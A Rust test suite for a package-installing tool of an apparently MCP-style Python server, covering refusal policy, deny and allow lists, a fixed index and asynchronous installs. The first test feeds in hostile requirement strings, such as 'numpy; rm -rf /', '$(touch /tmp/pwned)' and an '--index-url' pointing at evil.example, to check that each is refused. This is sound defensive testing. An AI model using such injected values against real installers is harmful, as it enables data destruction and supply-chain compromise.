//! install_package: the requirement policy (each refusal named) and a real install from PyPI.

use serde_json::json;

use crate::common::*;

#[tokio::test]
async fn refuses_requirements_that_are_not_plain_names() {
    let server = Server::start();
    for package in [
        "numpy; rm -rf /",
        "--index-url https://evil.example/simple numpy",
        "--index-url=https://evil.example/simple",
        "git+https://github.com/psf/requests",
        "../x.whl",
        "/tmp/x.whl",
        "https://example.com/x.whl",
        "requests @ https://example.com/r.whl",
        "-e .",
        "$(touch /tmp/pwned)",
        "a|b",
        "numpy\nrequests",
        "",
    ] {
        let r = server
            .call("install_package", json!({"package": package}))
            .await;
        assert!(is_error(&r), "{package:?} was accepted: {r}");
        assert_eq!(status(&r), "refused", "{package:?}: {r}");
        assert!(!text(&r).is_empty());
    }
    assert!(!std::path::Path::new("/tmp/pwned").exists());
    assert_eq!(status(&server.exec("1").await), "ok");
}

#[tokio::test]
async fn installs_a_wheel_that_imports_without_restart() {
    let server = Server::start();
    // The kernel is running before the install: the package must import without a restart.
    let r = server
        .exec("import importlib.util\nprint(importlib.util.find_spec('termcolor'))")
        .await;
    assert_eq!(
        text(&r),
        "None\n",
        "termcolor must not be preinstalled: {r}"
    );
    let r = server
        .call("install_package", json!({"package": "termcolor==3.3.0"}))
        .await;
    assert!(!is_error(&r), "{r}");
    assert_eq!(r["structuredContent"]["name"], "termcolor");
    assert_eq!(r["structuredContent"]["version"], "3.3.0");
    let r = server
        .exec("import termcolor\nprint(termcolor.__file__)")
        .await;
    assert_eq!(status(&r), "ok", "{r}");
    assert!(text(&r).contains(".packages"), "{r}");
}

#[tokio::test]
async fn a_package_that_does_not_exist_returns_pips_last_lines() {
    let server = Server::start();
    let r = server
        .call(
            "install_package",
            json!({"package": "this-package-does-not-exist-jmcp-4242"}),
        )
        .await;
    assert!(is_error(&r));
    assert_eq!(status(&r), "install_failed");
    assert!(
        text(&r).to_lowercase().contains("no matching distribution"),
        "{r}"
    );
}

#[tokio::test]
async fn a_denied_package_is_refused_under_another_spelling() {
    let server = Server::start_with(&["--package-deny", "Term_Color,requests"], &[]);
    for package in [
        "term-color",
        "TERM.COLOR==3.3.0",
        "term__color",
        "Requests[socks]",
    ] {
        let r = server
            .call("install_package", json!({"package": package}))
            .await;
        assert_eq!(status(&r), "refused", "{package}: {r}");
        assert!(text(&r).contains("--package-deny"), "{r}");
    }
}

#[tokio::test]
async fn a_package_outside_the_allow_list_is_refused() {
    let server = Server::start_with(&["--package-allow", "six"], &[]);
    let r = server
        .call("install_package", json!({"package": "termcolor"}))
        .await;
    assert_eq!(status(&r), "refused", "{r}");
    assert!(text(&r).contains("allowed: six"), "{r}");
}

#[tokio::test]
async fn the_index_is_fixed_by_configuration() {
    // An index on a closed loopback port: pip must use it (and fail), not PyPI.
    let server = Server::start_with(
        &[
            "--package-index-url",
            "http://127.0.0.1:9/simple",
            "--package-download-timeout",
            "2",
        ],
        &[],
    );
    let r = server
        .call("install_package", json!({"package": "termcolor==3.3.0"}))
        .await;
    assert_eq!(status(&r), "install_failed", "{r}");
    assert!(
        text(&r).contains("127.0.0.1"),
        "pip did not use the configured index: {r}"
    );
}

#[tokio::test]
async fn an_sdist_only_package_is_refused_by_pip() {
    // `pip install --only-binary :all:` finds no wheel for a source-only release.
    let server = Server::start();
    let r = server
        .call("install_package", json!({"package": "termcolor==1.1.0"}))
        .await;
    assert_eq!(status(&r), "install_failed", "{r}");
    assert!(
        text(&r).to_lowercase().contains("no matching distribution"),
        "{r}"
    );
}

/// pip past the call's wait: the call answers `running`, the install goes on and is read with
/// get_execution, and the package imports.
#[tokio::test]
async fn an_install_past_its_wait_answers_running_and_finishes() {
    let index = LocalIndex::start(&["jmcp-waitpkg==1.0"]);
    let server = Server::start_with(&["--package-index-url", &index.url], &[]);
    server.exec("1").await;
    let r = server
        .call(
            "install_package",
            json!({"package": "jmcp-waitpkg==1.0", "wait": 0}),
        )
        .await;
    assert!(!is_error(&r), "{r}");
    let s = &r["structuredContent"];
    assert_eq!(s["status"], "running", "{r}");
    assert!(s.get("name").is_none(), "{r}");
    let id = s["execution_id"].as_str().unwrap().to_string();
    let end = server
        .call("get_execution", json!({"execution_id": id, "wait": 30}))
        .await;
    let s = &end["structuredContent"];
    assert_eq!(s["status"], "ok", "{end}");
    assert_eq!(s["tool"], "install_package", "{end}");
    assert_eq!(s["result"]["name"], "jmcp-waitpkg", "{end}");
    assert_eq!(s["result"]["version"], "1.0", "{end}");
    let r = server.exec("import jmcp_waitpkg\nprint('ok')").await;
    assert_eq!(status(&r), "ok", "{r}");
}
